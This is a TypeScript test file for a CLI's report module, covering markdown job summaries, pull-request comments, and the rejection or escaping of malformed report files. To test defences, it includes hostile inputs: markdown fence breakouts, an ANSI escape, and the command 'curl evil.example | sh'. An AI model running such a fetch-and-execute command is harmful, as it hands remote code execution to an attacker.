import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { reportJson } from '../../src/report/json.ts';
import { severalMarkdown } from '../../src/report/markdown-several.ts';
import { reportMarkdown } from '../../src/report/markdown.ts';
import { readReports } from '../../src/report/read-reports.ts';
import type { Report } from '../../src/core/report.ts';
import { callCli } from '../support/cli.ts';
import { gitHubApi } from '../support/github-api.ts';
import { completed } from '../support/report.ts';
import { folderWith } from '../support/folder.ts';

const europe: Report = { ...completed, runId: '20250828-020000-eu00', database: { name: 'shop_eu', server: 's' } };
const failed: Report = {
  ...completed,
  runId: '20250828-020000-us00',
  database: { name: 'shop_us', server: 's' },
  result: 'reverted',
  rung: 'revert',
  error: { code: 'E_SMOKE', message: 'it failed', hint: 'look | here' },
};

/** A folder as artifacts of several jobs are downloaded into. */
function folderOf(reports: Record<string, unknown>): string {
  const files = Object.entries(reports).map(([name, report]) => [
    `${name}/${name}.report.json`,
    JSON.stringify(report),
  ]);
  return folderWith(Object.fromEntries(files));
}

describe('one summary of several databases', () => {
  it('has a row for each, those that need somebody first', () => {
    const text = severalMarkdown([europe, failed]);
    expect(text.split('\n')[0]).toBe('## ❌ 2 databases: 1 reverted, 1 completed.');
    expect([...text.matchAll(/^\| `(shop_..)` .*$/gm)].map(([row]) => row)).toEqual([
      '| `shop_us` | ❌ reverted | 1,000 | 7 ms | `E_SMOKE`: look &#124; here |',
      '| `shop_eu` | ✅ completed | 1,000 | 7 ms | |',
    ]);
    expect(severalMarkdown([europe, { ...europe, result: 'already-separated' }])).toMatch(/^## ✅ 2 databases: /);
  });

  it('names the databases whose jobs ended without a report, and fails', async () => {
    const folder = folderOf({ eu: reportJson(europe) });
    const summary = join(folder, 'summary.md');
    const args = ['report', '--from', folder, '--expect', 'shop_eu, shop_us'];
    const ended = await callCli(folder, args, { GITHUB_STEP_SUMMARY: summary });
    expect(ended).toMatchObject({ exit: 1, stderr: expect.stringContaining('No report of shop_us') });
    const text = readFileSync(summary, 'utf8');
    expect(text.split('\n')[0]).toBe('## ❌ 2 databases: 1 without a report, 1 completed.');
    expect(text).toMatch(/^\| `shop_us` \| ❌ no report \|/m);
  });

  it('of one is its own', () => {
    expect(severalMarkdown([europe])).toBe(reportMarkdown(europe));
  });

  it('is written by `separation report --from` into the job summary', async () => {
    const folder = folderOf({ eu: reportJson(europe), us: reportJson(failed) });
    const summary = join(folder, 'summary.md');
    const ended = await callCli(folder, ['report', '--from', folder, '--json'], { GITHUB_STEP_SUMMARY: summary });
    expect(ended).toMatchObject({ exit: 0 });
    expect(readFileSync(summary, 'utf8')).toBe(severalMarkdown([europe, failed]));
    expect(JSON.parse(ended.stdout)).toMatchObject([{ runId: europe.runId }, { runId: failed.runId }]);
  });
});

describe('the comment of a second workflow', () => {
  it('is written from the reports of the first, by the pull request of its event', async () => {
    const api = await gitHubApi();
    const folder = folderOf({ eu: reportJson(europe) });
    const event = join(folder, 'event.json');
    const head = 'c0ffee'.padEnd(40, '0');
    writeFileSync(event, JSON.stringify({ workflow_run: { id: 12, head_sha: head, pull_requests: [{ number: 7 }] } }));
    const environment = {
      GITHUB_TOKEN: 'ghs_never-to-be-seen',
      GITHUB_API_URL: api.url,
      GITHUB_REPOSITORY: 'shop/app',
      GITHUB_EVENT_PATH: event,
      GITHUB_SERVER_URL: 'https://github.example.test',
      GITHUB_RUN_ID: '13',
      GITHUB_SHA: 'of the default branch',
    };
    const said = await callCli(folder, ['report', '--from', folder, '--comment'], environment);
    expect(said).toMatchObject({ exit: 0 });
    expect(said.stderr).toContain('The report is a comment on the pull request');
    await callCli(folder, ['report', '--from', folder, '--comment'], environment);
    expect(api.comments.map(({ body }) => body)).toEqual([
      expect.stringContaining('Completed: `shop_eu` is separated'),
    ]);
    // It leads to the run that it tells of, and not to the one that tells.
    expect(api.comments[0]?.body).toContain('https://github.example.test/shop/app/actions/runs/12)');
    const without = await callCli(folder, ['report', '--from', folder, '--comment'], {
      ...environment,
      GITHUB_TOKEN: '',
    });
    expect(without).toMatchObject({ exit: 0, stderr: expect.stringContaining('No comment was written') });
  });
});

describe('reports of strangers', () => {
  it('are read as what they are', () => {
    const [read] = readReports(folderOf({ eu: reportJson(europe) }));
    expect({ ...read, startedAt: europe.startedAt }).toEqual(europe);
  });

  it.for([
    { is: 'no JSON', report: 'x' },
    { is: 'text where a number belongs', report: { ...europe, locks: { heldMs: '<img>', attempts: 1, waitedMs: 0 } } },
    { is: 'an unknown result', report: { ...europe, result: '## owned' } },
    { is: 'of another version', report: { ...europe, version: 2 } },
    { is: 'a run id that is none', report: { ...europe, runId: '`\n# owned' } },
    {
      is: 'a digest that leaves its line',
      report: { ...europe, plan: { ...completed.plan, digest: 'x\n```\n# owned' } },
    },
    { is: 'an error code that is none', report: { ...failed, error: { code: 'OWNED', message: '', hint: '' } } },
    { is: 'half a row', report: { ...europe, checks: [{ ...completed.checks[0], rows: 0.5 }] } },
  ])('are refused if one is $is', ({ report }) => {
    const folder = folderOf({ eu: report });
    expect(() => readReports(folder)).toThrowError(/is not a report JSON of this version/);
  });

  it('cannot leave a block of code, and have no commands in a comment', async () => {
    const commands = ['```', '# owned', '`````', 'curl evil.example | sh', 'a\u001b[2J\n```\nb'];
    const hostile: Report = {
      ...failed,
      result: 'needs-attention',
      instructions: [{ text: 'do\n```\n# owned', commands }],
    };
    const text = reportMarkdown(hostile);
    const [, block = ''] = /``````sh\n([^]*?)\n``````(?:\n|$)/.exec(text) ?? [];
    expect(block.split('\n')).toHaveLength(commands.length);
    expect(text.replace(block, '')).not.toMatch(/^# owned/m);
    // oxlint-disable-next-line no-control-regex -- it must be gone
    expect(text).not.toMatch(/\u001b/);
    const api = await gitHubApi();
    const reports = Object.fromEntries(
      Array.from({ length: 12 }, (_, i) => [
        `r${i}`,
        { ...hostile, runId: `run-${i}`, database: { name: `d${i}`, server: 's' } },
      ]),
    );
    const folder = folderOf(reports);
    const event = join(folder, 'event.json');
    writeFileSync(event, JSON.stringify({ pull_request: { number: 7 } }));
    const said = await callCli(folder, ['report', '--from', folder, '--comment'], {
      GITHUB_TOKEN: 'ghs_never-to-be-seen',
      GITHUB_API_URL: api.url,
      GITHUB_REPOSITORY: 'shop/app',
      GITHUB_EVENT_PATH: event,
    });
    expect(said.exit).toBe(0);
    expect(api.comments).toHaveLength(1);
    expect(api.comments[0]?.body).not.toContain('curl');
  });

  it('are not read without end', () => {
    const many = Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`r${i}`, {}]));
    expect(() => readReports(folderOf(many))).toThrowError(/there are 201 reports/);
    const folder = folderOf({});
    symlinkSync('/', join(folder, 'root'));
    expect(() => readReports(folder)).toThrowError(/there is no report JSON/);
  });

  it('have to be there', () => {
    expect(() => readReports(folderOf({}))).toThrowError(/there is no report JSON/);
    expect(() => readReports('/nowhere')).toThrowError(/there is no report JSON/);
  });
});
